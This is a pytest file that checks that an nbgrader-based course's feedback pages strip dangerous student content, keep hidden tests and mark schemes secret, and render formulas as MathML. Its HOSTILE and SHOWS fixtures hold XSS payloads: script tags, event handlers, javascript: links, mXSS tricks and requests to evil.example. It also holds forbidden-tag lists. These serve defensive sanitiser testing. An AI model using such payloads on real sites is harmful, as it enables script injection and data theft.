"""The page that a student gets back: what it says, what it keeps back, and that it does nothing."""

import html.parser
import json
import re
import shutil
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT, answer, cell, notebook
from nbconvert.filters.markdown_mistune import MarkdownWithMath
from nbgrader.apps import NbGraderAPI
from traitlets.config import Config

from course_utils.classroom import page
from course_utils.classroom.feedback import HIDDEN, HideTests, Summarise
from course_utils.classroom.formulas import mathml
from course_utils.grading import configure, markup

BROWSER = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)


def check(name, points, *lines, hidden=()):
    edges = ("### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS")
    lines = [*lines, edges[0], *hidden, edges[1]] if hidden else lines
    return cell("code", name, "\n".join(lines), grade=True, locked=True, points=points)


COURSE = {
    "one": notebook([
        cell("markdown", "title", "# Sums of $x_i$\n\n![a dot](dot.png)"),
        check("early", 1, "assert 1 + 1 == 2"),
        cell("markdown", "task-1", "## Adding *up*\n\n$$\\sum_{i=1}^n x_i$$"),
        answer("total", "return sum(x)"),
        check("seen", 1, "# Visible check: two numbers.",
              "assert total([1, 4]) == 5, 'two numbers\\nare added'"),
        check("bare", 1, "assert total([1, 4]) == 5"),
        check("unseen", 2, "# Hidden check: many numbers.", "assert total([0]) == 0",
              hidden=["print('PRINTED-4711')", "assert total([4711]) == 4711, f'SECRET-{4711}'"]),
        check("part", 2, "0.5"),
        cell("markdown", "task-2", "## Explaining"),
        cell("markdown", "essay", "Write here.", grade=True, solution=True, points=5),
        cell("markdown", "work", "Draw.\n### BEGIN MARK SCHEME\nSAID-4712\n\n### END MARK SCHEME",
             locked=True, task=True, points=1),
    ]),
    "two": notebook([cell("markdown", "word", "A word.", grade=True, solution=True, points=3)]),
}  # fmt: skip

DOT = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)

HOSTILE = r"""
$\theta^\top x$ and $\nosuchcommand{x}$ and $\text{</mtext><script>alert(0)</script>}$ ![$x$](a.png)

$$\begin{aligned} a &= b \\ c &= \mathcal N(0, 1)\end{aligned}$$

<script>alert(1)</script>
<p onclick="alert(2)" style="background:url(https://evil.example/a)">text</p>
<iframe src="https://evil.example/b"></iframe><object data="https://evil.example/c"></object>
<img src="https://evil.example/d" onerror="alert(3)" alt="a picture from afar">
<svg onload="alert(4)"><script>alert(5)</script><image href="https://evil.example/e"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext>
<link rel="stylesheet" href="https://evil.example/f">
<meta http-equiv="refresh" content="0;url=//evil.example"><base href="https://evil.example/">
<form action="https://evil.example/g"><input name="q"></form>
<div class="summary" id="cell-total">20 of 20</div>

[one](javascript:alert(7)) [two](JaVaScRiPt&colon;alert(8)) <javascript:alert(9)>
[three](data:text/html,<script>alert(10)</script>) [four](https://example.org/)
![five](attachment:no.png) ![six](../../../secret.png)

| a | b |
|---|---|
| 1 | $x^2$ |
"""

SHOWS = """
from IPython.display import HTML, SVG, Javascript, Latex, display
display(HTML("<b onclick='alert(11)'>bold</b><script>alert(12)</script>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(13)</script></svg>"))
display(Javascript("alert(14)"), Latex("$x^3$"))
display({"image/png": "PNG"}, raw=True)
display({"image/png": "AAAA\\" onerror=\\"alert(15)"}, raw=True)
"""


class Page(html.parser.HTMLParser):
    """What there is in a page: tags, attributes, and text."""

    def __init__(self, source):
        super().__init__()
        self.tags, self.attributes, self.words = [], [], []
        self.feed(source)
        self.text = re.sub(r"\s+", " ", "".join(self.words))

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        if self.tags[-1:] != ["style"]:
            self.words.append(data)


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """A course with nbgrader's own folders, two students, late, graded; their pages' sources."""
    root = tmp_path_factory.mktemp("course")
    (root / "source" / "hw").mkdir(parents=True)
    for name, nb in COURSE.items():
        (root / "source" / "hw" / f"{name}.ipynb").write_text(json.dumps(nb))
    dot = page.base64.b64decode(DOT)
    (root / "source" / "hw" / "dot.png").write_bytes(dot)
    (root / "secret.png").write_bytes(dot)
    config = Config()
    configure(config)
    config.CourseDirectory.root = str(root)
    config.PenaltyPerDay.penalty_per_day = 0.1
    api = NbGraderAPI(config=config)
    assert api.generate_assignment("hw")["success"]
    with api.gradebook as gradebook:
        gradebook.update_or_create_assignment("hw", duedate="2026-11-01 12:00:00 UTC")
    answers = {
        "ada": {"total": "def total(x):\n    return sum(x)", "essay": "All.", "word": "Yes."},
        "mal": {
            "total": f"def total(x):\n    return -sum(x)  # mine\n{SHOWS.replace('PNG', DOT)}",
            "essay": HOSTILE,
            "word": HOSTILE,
        },
    }
    for student, texts in answers.items():
        folder = root / "submitted" / student / "hw"
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text("2026-11-02 11:00:00 UTC")
        for name in COURSE:
            nb = json.loads((root / "release" / "hw" / f"{name}.ipynb").read_text())
            for one in nb["cells"]:
                one["source"] = texts.get(one["id"], one["source"])
            (folder / f"{name}.ipynb").write_text(json.dumps(nb))
    done = api.autograde("hw", "*")
    assert done["success"], done["log"]
    with api.gradebook as gradebook:
        comment = gradebook.find_comment("total", "one", "hw", "mal")
        comment.auto_comment = "This looks as if: the sign is turned, $-x$."
        gradebook.db.commit()
    done = api.generate_feedback("hw")  # as the Formgrader's button does
    assert done["success"], done["log"]
    return {path: path.read_text() for path in sorted(root.glob("feedback/*/hw/*.html"))}


def of(pages, student, name):
    (found,) = [path for path in pages if path.parts[-3] == student and path.stem == name]
    return Page(pages[found])


def summary(pages, student, name):
    """Rows of the table on top, as text."""
    (source,) = [text for path, text in pages.items() if path.parts[-3:] == (student, "hw", name)]
    table = source.partition('<table class="summary">')[2].partition("</table>")[0]
    rows = table.partition("<tbody>")[2].split("</tr>")[:-1]
    return [re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", row)).strip() for row in rows]


# What it keeps back


def test_no_page_has_a_script_or_anything_else_that_runs(pages):
    assert len(pages) == 4
    for path, source in pages.items():
        found = Page(source)
        forbidden = {"script", "iframe", "object", "embed", "svg", "form", "input", "link", "base"}
        assert not forbidden & set(found.tags), path
        for tag, name, value in found.attributes:
            assert not name.startswith("on"), (path, tag, name)
            assert not re.match(r"\s*(javascript|vbscript|data:text)", value, re.IGNORECASE), value


def test_no_page_asks_for_anything_outside_of_itself(pages):
    for path, source in pages.items():
        for tag, name, value in Page(source).attributes:
            if name in ("src", "srcset", "data", "poster", "background", "action", "style"):
                assert re.match(r"data:image/|color:", value), (path, tag, value)
            if name == "href":
                assert tag == "a", (path, tag)
                assert value.startswith("#") or value == "https://example.org/", (path, value)
        for style in re.findall(r"<style.*?</style>", source, re.DOTALL):
            assert "url(" not in style
            assert "@import" not in style
        assert "default-src 'none'; img-src data:" in source


def test_no_page_tells_of_hidden_tests_or_mark_schemes(pages):
    for path, source in pages.items():
        for secret in ("4711", "SECRET", "PRINTED", "4712", "BEGIN HIDDEN", "BEGIN MARK"):
            assert secret not in Page(source).text, (path, secret)


def test_nobody_passes_for_a_part_of_the_page(pages):
    attributes = of(pages, "mal", "one").attributes
    assert [value for _, name, value in attributes if name == "id"].count("cell-total") == 1
    assert ("div", "class", "summary") not in attributes


# What it says


def test_the_top_tells_of_each_exercise_what_failed(pages):
    assert summary(pages, "mal", "one.html") == [
        "early 1 of 1 all right",
        "Adding up 0.5 of 6 two numbers two numbers. assert total([1, 4]) == 5 "
        f"{HIDDEN} many numbers. 0.5 of 2 points "
        "This looks as if: the sign is turned, − x .",
        "Explaining 0 of 5 5 points will be marked by hand",
        "work 0 of 1 1 point will be marked by hand",
    ]
    assert summary(pages, "ada", "one.html")[1].startswith("Adding up 4.5 of 6 0.5 of 2")


def test_the_total_the_late_penalty_and_what_is_to_come_are_shown(pages):
    text = of(pages, "mal", "one").text
    assert "1.35 of 13 points so far" in text
    assert "6 points will be marked by hand" in text
    assert "late, which costs 0.15 points" in text


def test_every_link_of_the_table_leads_to_a_cell(pages):
    for source in pages.values():
        attributes = Page(source).attributes
        names = [value for _, name, value in attributes if name == "id"]
        links = [value[1:] for _, name, value in attributes
                 if name == "href" and value.startswith("#")]  # fmt: skip
        assert links
        assert set(links) <= set(names)
        assert len(names) == len(set(names))


def test_the_students_own_text_and_pictures_are_there(pages):
    found = of(pages, "mal", "one")
    assert "return -sum(x) # mine" in found.text
    assert "a picture from afar" in found.text
    assert r"$\nosuchcommand{x}$" in found.text
    assert "math" in found.tags
    pictures = [value for tag, name, value in found.attributes if (tag, name) == ("img", "src")]
    assert pictures == 2 * [f"data:image/png;base64,{DOT}"]  # the course's, and the answer's


def test_a_manual_notebook_has_a_page_too(pages):
    assert summary(pages, "ada", "two.html") == ["word 0 of 3 3 points will be marked by hand"]


@pytest.mark.skipif(BROWSER is None, reason="needs Chromium: apt-get install chromium")
def test_a_browser_shows_it_offline_at_any_width_and_runs_nothing(pages):
    from playwright.sync_api import sync_playwright

    (path,) = [path for path in pages if path.parts[-3:] == ("mal", "hw", "one.html")]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
        for width in (1200, 360):
            view = browser.new_context(viewport={"width": width, "height": 800}, offline=True)
            tab, asked, said = view.new_page(), [], []
            tab.on("request", lambda request, asked=asked: asked.append(request.url))
            tab.on("console", lambda message, said=said: said.append(message.text))
            tab.on("dialog", lambda dialog, said=said: said.append(dialog.message))
            tab.goto(path.as_uri())
            assert [url for url in asked if not url.startswith("data:")] == [path.as_uri()]
            assert said == []
            assert tab.evaluate("document.documentElement.scrollWidth") <= width
            sizes = tab.evaluate(
                "[...document.querySelectorAll('math')].map(m => m.getBoundingClientRect().height)"
            )
            assert len(sizes) > 4
            assert min(sizes) > 5
        browser.close()


# Where an error may be told


def failing(source, traceback, message="SECRET", name="check", kind="AssertionError"):
    """A test cell that failed, as it is after `HideTests`."""
    one = cell("code", name, source, grade=True, locked=True, points=1)
    one["outputs"] = [{"output_type": "error", "ename": kind, "evalue": message,
                       "traceback": traceback}]  # fmt: skip
    one["execution_count"] = 3
    helper = cell("code", "helper", "### BEGIN HIDDEN TESTS\nx = 1\n### END HIDDEN TESTS",
                  grade=True, locked=True, points=1)  # fmt: skip
    helper["execution_count"] = 2
    nb = nbformat.from_dict(notebook([helper, one]))
    HideTests().preprocess(nb, {})
    return nb.cells[1]


MIXED = "assert a\n### BEGIN HIDDEN TESTS\nassert b, SECRET\n### END HIDDEN TESTS\nassert c"


@pytest.mark.parametrize(
    ("traceback", "told"),
    [
        (["<check>, line 1, in <module>\n    assert a", "AssertionError: SECRET"], True),
        (["<check>, line 3, in <module>\n    assert b", "AssertionError: SECRET"], False),
        (["<check>, line 5, in <module>", "<check>, line 3, in f", "last"], False),
        (["<check>, line 5, in <module>", "<helper>, line 2, in f", "last"], False),
        (["<other>, line 1, in <module>", "AssertionError: SECRET"], False),
        (["AssertionError: SECRET"], False),
        ([], False),
        (["\x1b[36mCell\x1b[39m\x1b[36m \x1b[39m\x1b[32mIn[3]\x1b[39m\x1b[32m, line 1\x1b[39m\n"],
         True),
        (["----", "Cell In[3], line 3\n", "AssertionError: SECRET"], False),
        (["----", "Cell In[3], line 5\n", "Cell In[2], line 2, in f\n"], False),
        (["----", "Input In [3], line 3", "AssertionError: SECRET"], False),
    ],
)  # fmt: skip
def test_a_message_is_told_only_where_the_line_that_failed_is_seen(traceback, told):
    found = failing(MIXED, traceback)
    assert ("SECRET" in json.dumps(found)) is told
    assert (found.metadata.nbgrader["failure"] == HIDDEN) is not told


def test_an_error_class_of_ones_own_tells_nothing():
    assert "SECRET" not in json.dumps(failing(MIXED, [], kind="SECRET"))


def test_the_graders_own_words_are_told():
    found = failing(MIXED, ["AnswerEnded: no result in time"], "no result in time",
                    kind="AnswerEnded")  # fmt: skip
    assert found.metadata.nbgrader["failure"] == "no result in time"


def test_a_path_of_the_graders_machine_is_not_shown():
    steps = ["<check>, line 1, in <module>\n    f()", "/opt/x/checks.py, line 7, in close", "last"]
    assert "/opt" not in json.dumps(failing("f()", steps))


def test_a_summary_needs_no_answers_headings_or_comments():
    nb = nbformat.from_dict(notebook([
        cell("code", "a", "1", grade=True, locked=True, points=2, score=1, waits=False),
        cell("code", "b", "1", grade=True, locked=True, points=1, score=1, waits=True),
        cell("code", "c", "", solution=True),
    ]))  # fmt: skip
    _, resources = Summarise().preprocess(nb, {})
    assert [(row["name"], row["score"], row["waits"]) for row in resources["exercises"]] == [
        ("a", 1, 0), ("b", 1, 1),
    ]  # fmt: skip


def test_an_exercise_is_called_by_the_heading_before_it_or_by_its_name():
    def check(name):
        return cell("code", name, "", solution=True, comment="so")

    nb = nbformat.from_dict(notebook([
        cell("markdown", "t", "# The whole"), check("a"),
        cell("markdown", "u", "```\n# a comment\n```\n## Two ##\ntext\n### Hints"), check("b"),
        cell("markdown", "v", "No heading."), check("c"),
    ]))  # fmt: skip
    _, resources = Summarise().preprocess(nb, {})
    assert [row["title"] for row in resources["exercises"]] == ["a", "Two", "c"]


# Its parts


def test_every_formula_of_the_course_becomes_mathml():
    formulas = []

    class Collect(page.Renderer):
        def formula(self, body, left, right, *, display):
            formulas.append((body, display))
            return ""

    for path in (*ROOT.glob("lectures/*.ipynb"), *ROOT.glob("solutions/*/*.ipynb")):
        for one in nbformat.read(path, 4).cells:
            if one.cell_type == "markdown":
                MarkdownWithMath(renderer=Collect()).render(one.source)
    assert len(formulas) > 200
    assert [body for body, display in formulas if mathml(body, display=display) is None] == []


@pytest.mark.parametrize(
    "latex",
    [r"\frac{a", "x^", r"\left( x", r"a & b", r"\unknown", "",
     "{" * 4000, r"\sqrt{" * 2000, "x" * 10_000],
)  # fmt: skip
def test_what_is_no_formula_stays_as_it_was_typed(latex):
    assert mathml(latex) is None
    if latex:
        assert page.escape(latex) in page.markdown(f"${latex}$")


@pytest.mark.parametrize(
    ("latex", "shown"),
    [
        (r"\arg\min_\theta", "argminθ"), (r"\mathcal N", "𝒩"), (r"\boldsymbol\theta", "𝜽"),
        (r"\begin{align*} a &= b\end{align*}", "a=b"), (r"\text{<b>}", "<b>"),
        (r"\mathcal B", "ℬ"),
    ],
)  # fmt: skip
def test_formulas_are_shown_as_they_are_meant(latex, shown):
    text = re.sub(r"\s", "", Page(mathml(latex)).text)
    assert text == shown


@pytest.mark.parametrize(
    "source",
    [">" * 5000, "[" * 5000, "<div>" * 3000, "*a" * 5000, "$" * 5001],
    ids=lambda source: source[:5],
)  # fmt: skip
def test_a_text_made_to_break_the_page_does_not(source):
    assert page.markdown(source)


@pytest.mark.parametrize("source", ["<b>" * 6000, "x" * 50_000])
def test_what_would_take_too_long_to_read_is_shown_as_it_was_typed(source):
    html = page.markdown(source)
    assert html.startswith("<pre>")
    assert "<b>" not in html


def test_outputs_and_cells_that_would_take_too_long_are_shown_as_they_are():
    for made in ("<b " + "a=1 " * 200 + ">", "<b>" * 6000, "<b c d e f g>" * 4500):
        assert page.clean(made).startswith("<pre>&lt;b")
    assert "<span class" in page.code("x = 1\n" * 200, "python")
    assert "<span class" not in page.code("x = 1\n" * 5000, "python")
    essay = nbformat.from_dict(cell("markdown", "essay", "*so* " * 5000))
    markup.disarm_cell(essay, markup.Page())
    assert essay.source.startswith(markup.WARNING)
    output = nbformat.from_dict({"data": {"text/html": "<script></script>" + "<b>" * 10_000}})
    markup.disarm_output(output, markup.Page())
    assert output.data == {}


@pytest.mark.parametrize(
    ("source", "plain"),
    [
        ("# posterior", False),  # a heading has its text as its id
        ('<span id="posterior-comment"></span>', False),
        ('<div class="full-credit">so</div>', False),
        ('<div class="data score">so</div>', False),
        (f'<div class="{"a" * 99}">so</div>', False),
        ("# Posterior\n\n- [ ] so\n\n```python\nx = 1\n```", True),
        ("![](/logout)", False),
        ("![](https://example.org/logout?a.png)", False),
        ("![](drawing.png) ![](https://example.org/a.jpg)", True),
        ("$\\mmlToken{mi}[href='x']{x}$", False),
    ],
)
def test_a_students_text_has_no_hold_on_the_page_around_it(source, plain):
    """nbgrader's page finds the cell that points are for by the ids and classes in it."""
    essay = nbformat.from_dict(cell("markdown", "essay", source))
    markup.disarm_cell(essay, markup.Page({"posterior"}))
    assert essay.source.startswith(markup.WARNING) != plain
    table = '<table border="1" class="dataframe"><tr><td id="T_1">1</td></tr></table>'
    for made, kept in ((table, True), (table.replace("T_1", "posterior"), False)):
        output = nbformat.from_dict({"data": {"text/html": made}})
        markup.disarm_output(output, markup.Page({"posterior"}))
        assert ("<td id=" in output.data["text/html"]) == kept


def test_a_line_that_no_test_has_is_no_line_of_it():
    step = HideTests()
    step.hidden = {"check": frozenset()}
    lines = ["<check>, line 9999, in f\n    f()", "ValueError: "]  # as `compile` may call a file
    error = nbformat.from_dict({"ename": "ValueError", "evalue": "", "traceback": lines})
    assert step.tell(error, "check", "assert f() == 1") == ""


def test_many_texts_together_are_read_up_to_a_length():
    there, plain = markup.Page(), []
    for _ in range(11):
        essay = nbformat.from_dict(cell("markdown", "essay", "x" * (markup.LONGEST - 1)))
        markup.disarm_cell(essay, there)
        plain.append(not essay.source.startswith(markup.WARNING))
    assert plain == [True] * 10 + [False]


def test_pictures_come_from_the_text_itself_or_from_what_the_course_released(tmp_path):
    (tmp_path / "released").mkdir()
    for folder in (tmp_path, tmp_path / "released"):
        (folder / "dot.png").write_bytes(page.base64.b64decode(DOT))
    attachments = {"a.png": {"image/png": DOT}}
    shown = f"data:image/png;base64,{DOT}"
    for source, folder, there in [
        ("![x](attachment:a.png)", "", True),
        ("![x](dot.png)", str(tmp_path / "released"), True),
        ("<img alt=x src=dot.png>", str(tmp_path / "released"), True),
        ("![x](../dot.png)", str(tmp_path / "released"), False),
        (f"![x]({tmp_path}/dot.png)", str(tmp_path / "released"), False),
        ("![x](dot.png)", "", False),
        ("![x](attachment:b.png)", "", False),
    ]:
        html = page.markdown(source, attachments=attachments, folder=folder)
        assert (shown in html) is there, source
        assert there or html == "<p>x</p>\n"


def test_attachments_reach_the_page():
    config = Config()
    configure(config)
    nb = nbformat.from_dict(notebook([cell("markdown", "a", "![x](attachment:a.png)")]))
    nb.cells[0].attachments = {"a.png": {"image/png": DOT}}
    exporter = page.FeedbackExporter(config=config)
    marks = {"notebook": "n", "assignment": "a", "score": 0, "max_score": 0, "late_penalty": 0}
    source, _ = exporter.from_notebook_node(nb, resources={"nbgrader": marks})
    assert f"data:image/png;base64,{DOT}" in source


def test_the_formgrader_and_other_pages_keep_their_own_templates():
    config = Config()
    configure(config)
    assert "HTMLExporter" not in config
    assert Path(config.FeedbackExporter.extra_template_basedirs[0], "feedback").is_dir()
